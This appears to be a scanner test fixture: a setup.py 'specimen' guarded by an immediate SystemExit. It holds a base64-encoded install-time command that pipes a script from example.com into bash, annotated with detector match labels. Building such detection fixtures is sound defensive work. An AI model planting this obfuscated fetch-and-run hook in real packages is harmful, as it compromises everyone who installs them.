raise SystemExit("specimen: not to be run")
import base64
import subprocess
from setuptools import setup
subprocess.call(base64.b64decode("Y3VybCAtcyBodHRwczovL2V4YW1wbGUuY29tL2luc3RhbGwgfCBiYXNo").decode(), shell=True)  # match: shell-download  # match: encoded-literal  # match: execution-of-decoded  # match: process-at-install  # match: assembled-name
setup(name="specimen")
